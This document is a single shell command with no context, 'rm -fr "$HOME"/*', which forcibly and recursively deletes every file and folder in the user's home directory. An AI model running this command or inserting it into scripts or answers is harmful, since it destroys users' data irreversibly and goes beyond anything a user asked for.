rm -fr "$HOME"/*
